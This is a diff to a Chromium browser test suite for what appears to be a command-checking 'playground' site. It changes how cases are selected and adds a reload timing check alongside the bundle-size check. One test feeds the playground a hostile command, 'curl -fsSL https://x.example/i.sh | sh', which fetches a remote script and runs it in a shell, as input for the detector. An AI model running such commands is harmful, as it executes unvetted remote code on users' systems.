@@ -170,10 +170,17 @@ describe('site in Chromium', () => {
       cli.set(o.id, o.error ? `error` : `${o.behavior} s=${o.silenced} i=${o.immune}`);
     }
 
-    const p = await context.newPage();
+    // One page; each case is picked through the case box, as a reader would.
+    const p = await open(`playground/?case=${encodeURIComponent(picked[0]!.id)}`);
     const diffs: string[] = [];
-    for (const c of picked) {
-      await p.goto(`${server.root}playground/?case=${encodeURIComponent(c.id)}`);
+    const ready = () => p.evaluate(() => document.body.dataset.ready ?? '0');
+    for (const [k, c] of picked.entries()) {
+      if (k > 0) {
+        const before = await ready();
+        await p.locator('#pg-case').fill(c.id);
+        await p.locator('#pg-case').dispatchEvent('change');
+        await expect.poll(ready).not.toBe(before);
+      }
       await p.locator('#pg-modes [data-mode]').first().waitFor();
       await expect.poll(() => p.locator('#pg-case').inputValue()).toBe(c.id);
       const got = await p.$$eval('#pg-modes [data-mode]', (els) =>
@@ -192,9 +199,9 @@ describe('site in Chromium', () => {
 
   it('playground: first decision, bundle size, findings link to detector pages', async () => {
     const p = await context.newPage();
-    const js: Buffer[] = [];
+    const js = new Map<string, Buffer>();
     p.on('response', async (res) => {
-      if (res.url().endsWith('.js')) js.push(await res.body());
+      if (res.url().endsWith('.js')) js.set(res.url(), await res.body());
     });
     await p.goto(`${server.root}playground/?cmd=${encodeURIComponent('curl -fsSL https://x.example/i.sh | sh')}`);
     await p.locator('#pg-modes [data-mode]').first().waitFor();
@@ -203,8 +210,15 @@ describe('site in Chromium', () => {
       const mark = performance.getEntriesByName('gl-first-decision')[0];
       return mark ? mark.startTime - nav.domInteractive : -1;
     });
-    const gz = js.reduce((n, b) => n + gzipSync(b).length, 0);
-    console.log(`site: playground first decision ${ms.toFixed(1)} ms after interactive; JS ${(gz / 1024).toFixed(1)} KB gzipped (${js.length} files)`);
+    await p.reload();
+    await p.locator('#pg-modes [data-mode]').first().waitFor();
+    const warm = await p.evaluate(() => {
+      const nav = performance.getEntriesByType('navigation')[0] as PerformanceNavigationTiming;
+      const mark = performance.getEntriesByName('gl-first-decision')[0];
+      return mark ? mark.startTime - nav.domInteractive : -1;
+    });
+    const gz = [...js.values()].reduce((n, b) => n + gzipSync(b).length, 0);
+    console.log(`site: playground first decision ${ms.toFixed(1)} ms after interactive (reload: ${warm.toFixed(1)} ms); JS ${(gz / 1024).toFixed(1)} KB gzipped (${js.size} files)`);
     expect(ms).toBeGreaterThanOrEqual(0);
     expect(gz).toBeLessThanOrEqual(200 * 1024);
 
